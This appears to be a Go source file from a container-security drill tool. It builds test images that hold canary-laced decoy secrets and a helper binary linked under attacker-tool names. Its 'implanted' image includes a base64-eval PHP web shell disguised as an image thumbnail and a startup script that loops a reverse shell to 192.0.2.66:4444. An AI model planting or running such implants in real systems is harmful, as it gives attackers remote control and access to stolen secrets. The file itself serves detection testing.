package drill

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"runtime"

	"bulkhead/demo/userland"
)

// helper is the file name of the program for the containers, and attack its name there.
const helper = "bulkhead-drill-target"

// programs are the names under which the image has the helper, besides attack.
var programs = []string{
	"curl", "kubectl", "docker", "nmap", "xmrig", "traffmonetizer", "hydra", "ssh", "aws", "apt-get", "redis-cli", "dig", "etcdctl",
	"mysqldump", "sshd", "gcc", "stress", "hping3", "zfs", "useradd", "buildah", "insmod",
	"nginx", "node", "php-fpm", "falco", "worker",
}

var folders = []string{
	"etc/cron.d", "etc/crontabs", "etc/init.d", "etc/sudoers.d", "etc/falco", "etc/app", "etc/kubernetes", "mnt", "host", "root/.ssh", "root/.aws", "root/.kube", "root/.docker",
	"run/secrets/kubernetes.io/serviceaccount", "srv/app", "srv/cache", "srv/cache/tmp", "srv/data", "srv/uploads", "srv/documents", "srv/archive",
	"var/tmp", "var/www/html", "var/lib/mysql", "var/backups/nightly", "var/backups/weekly", "var/log", "usr/sbin", "proc", "sys", "dev",
}

// goods are the files that an application has, and those that are worth stealing: these say canary.
func goods(canary string) map[string]string {
	return map[string]string{
		"etc/shadow":                                     "root:$6$" + canary + ":20000:0:99999:7:::\nshop:!:20000:0:99999:7:::\n",
		"etc/sudoers":                                    "root ALL=(ALL) ALL\n",
		"etc/crontabs/root":                              "# none\n",
		"etc/falco/falco_rules.yaml":                     "- rule: one\n- rule: two\n",
		"etc/app/app.conf":                               "user=shop\npassword=" + canary + "\n",
		"root/.ssh/id_ed25519":                           "-----BEGIN OPENSSH PRIVATE KEY-----\n" + canary + "\n",
		"root/.ssh/authorized_keys":                      "# none\n",
		"root/.aws/credentials":                          "[default]\naws_secret_access_key=" + canary + "\n",
		"root/.kube/config":                              "users:\n- user: {token: " + canary + "}\n",
		"root/.docker/config.json":                       `{"auths":{"registry.example":{"auth":"` + canary + `"}}}`,
		"root/.bash_history":                             "mysql -p" + canary + "\n",
		"root/.bashrc":                                   "# nothing\n",
		"run/secrets/kubernetes.io/serviceaccount/token": "eyJ-" + canary,
		"srv/app/VERSION":                                "version 1.0\n",
		"srv/app/.env":                                   "DB_PASSWORD=" + canary + "\n",
		"srv/app/config.php":                             "<?php $password = '" + canary + "';\n",
		"srv/app/job.txt":                                "a job\n",
		"srv/app/key.pub":                                "ssh-ed25519 AAAA\n",
		"srv/app/report.sh":                              "echo report\n",
		"srv/data/orders.csv":                            "order,name\n1,orders of Ann\n",
		"srv/documents/a.doc":                            "a contract of many words, signed and sealed by both, of which there is one copy\n",
		"srv/documents/b.doc":                            "a contract\n",
		"srv/documents/c.doc":                            "a contract\n",
		"srv/archive/1.doc":                              "an old contract\n",
		"srv/archive/2.doc":                              "another\n",
		"srv/cache/old.log":                              "old\n",
		"srv/cache/history.txt":                          "old\n",
		"srv/cache/scratch":                              "old\n",
		"var/www/html/index.html":                        "<h1>shop</h1>\n",
		"var/lib/mysql/customers.sql":                    "INSERT INTO customers VALUES ('" + canary + "');\n",
		"var/backups/nightly/a":                          "a backup\n",
		"var/backups/weekly/a":                           "a backup\n",
		"var/log/auth.log":                               "a login\n",
		"var/log/secure.log":                             "a login\n",
		"var/log/app.log":                                "a request\n",
	}
}

// buildImage writes the docker-archive of the containers.
func buildImage(w io.Writer, ref string, program []byte, canary string) error {
	base, err := layer(userland.Write)
	if err != nil {
		return fmt.Errorf("pack the userland: %w", err)
	}
	own, err := layer(func(l *userland.Layer) error { fill(l, program, canary); return nil })
	if err != nil {
		return fmt.Errorf("pack the application: %w", err)
	}
	return archive(w, ref, base, own)
}

func fill(l *userland.Layer, program []byte, canary string) {
	for _, f := range folders {
		l.Dir(f, 0o755, 0)
	}
	l.File("usr/bin/attack", 0o755, 0, program)
	for _, p := range programs {
		l.Hard("usr/bin/"+p, "usr/bin/attack")
	}
	for name, text := range sorted(goods(canary)) {
		l.File(name, 0o644, 0, []byte(text))
	}
}

func layer(write func(*userland.Layer) error) ([]byte, error) {
	var out bytes.Buffer
	l := userland.NewLayer(&out)
	if err := write(l); err != nil {
		return nil, err
	}
	return out.Bytes(), l.Close()
}

// archive writes layers as a docker-archive.
func archive(w io.Writer, ref string, layers ...[]byte) error {
	var names, ids []string
	for i, data := range layers {
		sum := sha256.Sum256(data)
		names, ids = append(names, fmt.Sprintf("%d.tar", i)), append(ids, "sha256:"+hex.EncodeToString(sum[:]))
	}
	config, err := json.Marshal(map[string]any{
		"architecture": runtime.GOARCH, "os": "linux", "created": "2026-01-01T00:00:00Z",
		"config": map[string]any{"Env": []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}},
		"rootfs": map[string]any{"type": "layers", "diff_ids": ids},
	})
	if err != nil {
		return err
	}
	manifest, err := json.Marshal([]map[string]any{{"Config": "config.json", "RepoTags": []string{ref}, "Layers": names}})
	if err != nil {
		return err
	}
	l := userland.NewLayer(w)
	l.File("config.json", 0o644, 0, config)
	for i, data := range layers {
		l.File(names[i], 0o644, 0, data)
	}
	l.File("manifest.json", 0o644, 0, manifest)
	return l.Close()
}

// images are those that steps bring, as files of one layer.
var images = map[string]map[string]string{
	"plain": {
		"srv/www/index.php": "<?php echo htmlspecialchars($_GET['name'] ?? 'shop');\n",
		"srv/app/start.sh":  "#!/bin/sh\nexec node server.js\n",
	},
	"implanted": {
		"srv/www/index.php":     "<?php echo htmlspecialchars($_GET['name'] ?? 'shop');\n",
		"srv/www/img/thumb.php": "<?php if (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); } @system($_REQUEST['c']);\n",
		"srv/app/start.sh":      "#!/bin/sh\n(while :; do sh -i >& /dev/tcp/192.0.2.66/4444 0>&1; sleep 60; done) &\nexec node server.js\n",
		"root/.ssh/id_rsa":      "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\nKUpRKfFLfRYC9AIKjbJTWit+CqvjWYzvQwECAwEAAQJAIJLixBy2qpFoS4DSmoEm\n-----END RSA PRIVATE KEY-----\n",
	},
}

func buildNamed(w io.Writer, name string) error {
	content, ok := images[name]
	if !ok {
		return fmt.Errorf("there is no image %q to bring", name)
	}
	data, err := layer(func(l *userland.Layer) error {
		for file, text := range sorted(content) {
			l.File(file, 0o755, 0, []byte(text))
		}
		return nil
	})
	if err != nil {
		return err
	}
	return archive(w, "registry.example/"+name+":v1", data)
}
